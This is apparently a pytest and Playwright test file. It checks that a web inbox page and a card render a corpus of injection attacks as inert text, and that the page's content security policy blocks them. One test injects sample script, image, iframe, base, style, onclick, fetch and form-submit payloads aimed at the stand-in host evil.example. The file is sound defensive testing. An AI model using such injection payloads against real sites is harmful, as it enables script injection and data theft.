"""What others wrote, on the page and in the card: it is read there, and runs, loads, sends and builds nothing."""

from typing import Any

import pytest
from playwright.async_api import Browser, Locator

from beam_mcp.sandbox.world import World
from tests.browser.host import hosting
from tests.browser.visiting import visiting
from tests.foreign import checks
from tests.foreign.bodies import serve_inbox
from tests.foreign.corpus import CORPUS, LONG
from tests.server.paged import paged

pytestmark = pytest.mark.anyio

DRAWN = [attack for attack in CORPUS if len(attack.text) < LONG]
MARKUP = [attack for attack in DRAWN if attack.kind in {"HTML", "Markdown", "template", "turned", "unseen"}]
# What our templates are made of. A picture is the one sign in the page's head bar.
OURS = frozenset(
    [
        "html",
        "head",
        "meta",
        "title",
        "link",
        "script",
        "style",
        "body",
        "header",
        "svg",
        "circle",
        "path",
        "main",
        "h1",
        "h2",
        "nav",
        "ol",
        "li",
        "a",
        "article",
        "p",
        "span",
        "bdi",
        "form",
        "button",
        "input",
        "label",
        "dl",
        "div",
        "dt",
        "dd",
        "fieldset",
        "legend",
        "textarea",
        "select",
        "option",
        "q",
        "footer",
        "noscript",
    ]
)
LOOK = """() => {
  const all = [...document.querySelectorAll('*')];
  const shown = (e) => e.localName === 'textarea' || e.localName === 'input' ? e.value : '';
  return {
    tags: [...new Set(all.map((e) => e.localName))],
    attributes: [...new Set(all.flatMap((e) => e.getAttributeNames()))],
    links: [...new Set(all.flatMap((e) => [e.href, e.src, e.action].filter((a) => typeof a === 'string' && a)))],
    scripts: document.scripts.length,
    text: document.body.innerText + all.map(shown).join('\\n'),
    hit: String(window.hit),
    base: document.baseURI,
  };
}"""


def wrong(seen: dict[str, Any], home: str) -> list[str]:
    """What is in a document that our templates did not put there."""
    found = [f"element {tag}" for tag in seen["tags"] if tag not in OURS]
    found += [f"attribute {name}" for name in seen["attributes"] if name.startswith("on") or name in {"ping", "srcdoc"}]
    found += [f"link {link}" for link in seen["links"] if not link.startswith((home, "about:"))]
    found += [f"unseen {odd}" for odd in sorted(checks.unseen(seen["text"]))]
    found += ["marks heaped"] if checks.heaped(seen["text"]) else []
    return found + ([f"hit: {seen['hit']}"] if seen["hit"] != "undefined" else [])


def turns(attacks: list[Any], page: int) -> range:
    """Ten turns, so far from each other that together they bring every attack before the person."""
    return range(page, len(attacks), max(1, len(attacks) // 9))[:10]


@pytest.mark.parametrize("script", [True, False], ids=["with script", "without"])
async def test_the_page_shows_attacks_as_text_and_does_nothing_else(browser: Browser, script: bool) -> None:  # noqa: FBT001 - a parameter of the test
    world = World(populated=False)
    async with paged(world) as pages, visiting(browser, pages, script=script) as visit:
        for attacks in (MARKUP, DRAWN):
            serve_inbox(world, attacks, turns(attacks, 0))
            await visit.see(address := pages.inbox())
            seen = await visit.page.evaluate(LOOK)
            assert wrong(seen, pages.base) == []
            assert seen["scripts"] == 2
            assert visit.page.url == address == seen["base"]
        assert "window.hit" in seen["text"]
        assert await visit.page.locator("article").count() > 5
    assert world.acts == []


async def test_the_policy_of_the_page_stops_what_would_get_into_it_all_the_same(browser: Browser) -> None:
    world = World(populated=False)
    serve_inbox(world, MARKUP, turns(MARKUP, 0))
    async with paged(world) as pages, visiting(browser, pages) as visit:
        await visit.see(pages.inbox())
        stopped = await visit.page.evaluate("""async () => {
          const stopped = [];
          document.addEventListener('securitypolicyviolation', (e) => stopped.push(e.effectiveDirective));
          const put = (name, given) => document.body.append(Object.assign(document.createElement(name), given));
          put('script', { textContent: 'window.hit = 1' });
          put('script', { src: 'https://evil.example/a.js' });
          put('img', { src: 'https://evil.example/a.png' });
          put('style', { textContent: '@import "https://evil.example/a.css"' });
          put('iframe', { src: 'https://evil.example/' });
          put('base', { href: 'https://evil.example/' });
          document.body.insertAdjacentHTML('beforeend', '<b onclick="window.hit = 1" style="color: red">x</b>');
          document.body.lastChild.click();
          await fetch('https://evil.example/').catch(() => 0);
          const form = Object.assign(document.createElement('form'), { action: 'https://evil.example/' });
          document.body.append(form);
          form.submit();
          for (let n = 0; n < 50 && new Set(stopped).size < 9; n++) await new Promise(requestAnimationFrame);
          return { kinds: [...new Set(stopped)].sort(), hit: String(window.hit) };
        }""")
        assert stopped["hit"] == "undefined"
        assert {"script-src-elem", "script-src-attr", "img-src", "style-src-elem", "style-src-attr"} <= {
            *stopped["kinds"]
        }
        assert {"frame-src", "base-uri", "connect-src", "form-action"} <= {*stopped["kinds"]}
        assert [what for what in visit.strange if not what.startswith(("console:", "request: https://evil"))] == []
        visit.strange.clear()


async def test_the_card_shows_attacks_as_text_and_does_nothing_else(browser: Browser) -> None:
    world = World(populated=False)
    async with hosting(browser, world) as host:
        for attacks in (MARKUP, DRAWN):
            serve_inbox(world, attacks, turns(attacks, 1))
            await host.draw("get_pending_questions")
            await host.settled()
            await host.card.locator("article").nth(5).wait_for()
            seen = await body_of(host.card.locator("body"))
            assert wrong(seen, "data:") == []
            assert seen["scripts"] == 1
        assert "window.hit" in seen["text"]
    assert world.acts == []


async def body_of(body: Locator) -> dict[str, Any]:
    """What is in the card's document."""
    return await body.evaluate(LOOK)
